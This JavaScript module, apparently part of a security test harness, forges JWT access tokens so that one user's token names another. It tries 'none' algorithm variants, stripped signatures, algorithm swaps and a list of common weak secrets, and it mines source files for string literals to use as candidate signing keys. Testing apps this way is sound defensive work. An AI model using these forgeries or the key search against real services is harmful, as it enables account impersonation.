/** What a forger tries on an access token, made by hand, without a library of tokens. */

import { readFileSync } from "node:fs";
import { createHmac, createPrivateKey, createPublicKey, createSign, createVerify } from "node:crypto";
import { transformSync } from "esbuild";
import { Parser } from "acorn";
import { tampered } from "./client-5-7.mjs";

const encode = (value) =>
  Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");

/** Header and payload of a JWT (three parts, the first two JSON), or null. */
export function jwtOf(token) {
  const parts = token.split(".");
  if (parts.length !== 3) return null;
  try {
    const [header, payload] = parts.slice(0, 2).map((part) => JSON.parse(Buffer.from(part, "base64url")));
    return { header, payload, parts };
  } catch {
    return null;
  }
}

/** Tokens made of ada's that name grace, or that are garbled: [what was done, the token] each. `hers` is grace's own. */
export function forgeries(token, hers) {
  if (token === "") return [];
  const jwt = jwtOf(token);
  if (!jwt) {
    const readable = Buffer.from(token, "base64url").toString();
    const named = readable.includes("ada")
      ? [["another name", encode(readable.replaceAll("ada", "grace"))]]
      : [];
    const places = [0.05, 0.5, 0.95].map((place) => [`changed at ${place}`, tampered(token, place)]);
    return [...places, ...named];
  }
  const [header, , signature] = jwt.parts;
  const wanted = jwtOf(hers)?.parts[1] ?? encode({ ...jwt.payload, username: "grace" });
  const payload = wanted === jwt.parts[1] ? encode({ ...jwt.payload, username: "grace" }) : wanted;
  const none = ["none", "None", "NONE", "nOnE"].map((alg) => [
    `alg ${alg}`,
    `${encode({ ...jwt.header, alg })}.${payload}.`,
  ]);
  const others = ["HS512", "HS384", "RS256", "ES256"].filter((alg) => alg !== jwt.header.alg);
  return [
    ["another payload", `${header}.${payload}.${signature}`],
    ...none,
    ["no signature", `${header}.${payload}.`],
    ["two parts", `${header}.${payload}`],
    ...others.map((alg) => [
      `header says ${alg}`,
      `${encode({ ...jwt.header, alg })}.${jwt.parts[1]}.${signature}`,
    ]),
  ];
}

/** Some of the most used secrets of JWTs. */
export const COMMON = [
  "",
  "keyboard cat",
  "[object Object]",
  ..."undefined null secret Secret SECRET mysecret my-secret my_secret secretkey secret-key secret_key".split(
    " ",
  ),
  ..."SECRET_KEY supersecret super-secret supersecretkey jwtsecret jwt_secret jwt-secret JWT_SECRET".split(
    " ",
  ),
  ..."changeme password 123456 test dev key token your-256-bit-secret shhhhh shhh access refresh".split(" "),
  ..."accesssecret your_jwt_secret your-secret-key qwerty admin".split(" "),
];

/** Every string of the sources, also joined ones. */
export function stringsOf(files) {
  const found = new Set();
  const fold = (node) => {
    if (node.type === "Literal" && typeof node.value === "string") return node.value;
    if (node.type === "TemplateLiteral" && node.expressions.length === 0) return node.quasis[0].value.cooked;
    if (node.type === "ArrayExpression") {
      const parts = node.elements.map((part) => (part ? fold(part) : undefined));
      return parts.every((part) => typeof part === "string") ? parts : undefined;
    }
    if (node.type === "BinaryExpression" && node.operator === "+") {
      const [left, right] = [fold(node.left), fold(node.right)];
      return typeof left === "string" && typeof right === "string" ? left + right : undefined;
    }
    if (
      node.type === "CallExpression" &&
      node.callee.type === "MemberExpression" &&
      node.callee.property.name === "join"
    ) {
      const [parts, by] = [fold(node.callee.object), node.arguments[0] ? fold(node.arguments[0]) : ","];
      return Array.isArray(parts) && typeof by === "string" ? parts.join(by) : undefined;
    }
    return undefined;
  };
  const walk = (node) => {
    if (!node || typeof node.type !== "string") return;
    const value = fold(node);
    if (typeof value === "string") found.add(value);
    for (const child of Object.values(node)) {
      if (Array.isArray(child)) child.forEach(walk);
      else if (child && typeof child === "object") walk(child);
    }
  };
  for (const file of files) {
    const loader = file.endsWith("ts") ? "ts" : "js";
    const { code } = transformSync(readFileSync(file, "utf8"), { loader, target: "esnext" });
    const options = {
      ecmaVersion: "latest",
      allowReturnOutsideFunction: true,
      allowAwaitOutsideFunction: true,
    };
    try {
      walk(Parser.parse(code, { ...options, sourceType: "module" }));
    } catch {
      walk(Parser.parse(code, { ...options, sourceType: "script" }));
    }
  }
  return found;
}

/** Makes the signer that a key of the JWT gives, where `candidate` is that key: it takes the signed part; or null. */
function signerOf(jwt, candidate) {
  const [header, payload, signature] = jwt.parts;
  const data = `${header}.${payload}`;
  const { alg } = jwt.header;
  const bits = alg.slice(2);
  if (alg.startsWith("HS")) {
    for (const key of [candidate, Buffer.from(candidate, "hex"), Buffer.from(candidate, "base64")]) {
      const sign = (signed) => createHmac(`sha${bits}`, key).update(signed).digest("base64url");
      if (sign(data) === signature) return sign;
    }
    return null;
  }
  try {
    const key = createPrivateKey(candidate);
    const encoding = alg.startsWith("ES") ? { dsaEncoding: "ieee-p1363" } : {};
    const publicKey = { key: createPublicKey(key), ...encoding };
    const right = createVerify(`sha${bits}`).update(data).verify(publicKey, signature, "base64url");
    return right
      ? (signed) =>
          createSign(`sha${bits}`)
            .update(signed)
            .sign({ key, ...encoding }, "base64url")
      : null;
  } catch {
    return null;
  }
}

/** Where one of the candidates is the key of ada's JWT: `{ key, forged }`, a token that names grace; else null. */
export function keyFound(token, hers, candidates) {
  const jwt = jwtOf(token);
  if (!jwt) return null;
  for (const candidate of candidates) {
    const sign = signerOf(jwt, candidate);
    if (!sign) continue;
    const payload = jwtOf(hers)?.payload ?? jwt.payload;
    const data = `${jwt.parts[0]}.${encode({ ...payload, forged: 1 })}`;
    return { key: candidate, forged: `${data}.${sign(data)}` };
  }
  return null;
}
